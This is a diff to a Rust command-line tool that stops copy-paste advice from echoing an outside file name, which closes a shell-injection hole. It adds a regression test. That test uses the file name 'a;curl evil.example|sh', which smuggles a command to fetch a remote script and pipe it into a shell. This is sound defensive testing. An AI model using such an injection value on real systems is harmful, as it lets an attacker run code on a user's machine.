@@ -10,6 +10,10 @@ const STRICT_ADVICE: [&str; 2] = [
     "Name its directory with --root, or add --no-workspace-strict.",
 ];
 
+/// Advice for a file that is not a document. It leaves out the name of the file, which comes from outside: people copy
+/// such a command into a shell.
+pub(super) const CLASSIFY_ADVICE: &str = "`dray classify` detects the type of a file.";
+
 /// A sentence of the tool for a user of this command.
 pub(super) fn shown_message(output: &str) -> String {
     let [of_tool, of_command] = STRICT_ADVICE;
@@ -57,10 +61,7 @@ pub(super) fn refusal_fault(record: &Record, document: &str) -> Fault {
     };
     let fault = Fault::new(kind, message).detail(code.word());
     match code {
-        Code::KindNotAllowed => fault.advice(format!(
-            "`dray classify {}` detects its type.",
-            escape_path(document)
-        )),
+        Code::KindNotAllowed => fault.advice(CLASSIFY_ADVICE),
         _ => fault,
     }
 }
@@ -76,6 +77,14 @@ mod tests {
             shown_message(&of_tool),
             "Error: refusing to access '/nope' — outside /w. Name its directory with --root, or add --no-workspace-strict."
         );
+    }
+
+    #[test]
+    fn a_command_in_advice_has_no_name_that_a_shell_would_run() {
+        let record = Record::refused(Code::KindNotAllowed, "Error: it is a binary".to_owned());
+        let fault = refusal_fault(&record, "a;curl evil.example|sh");
+        assert!(fault.advice.contains("`dray classify`"), "{fault:?}");
+        assert!(!fault.advice.contains("curl"), "{fault:?}");
     }
 
     #[test]
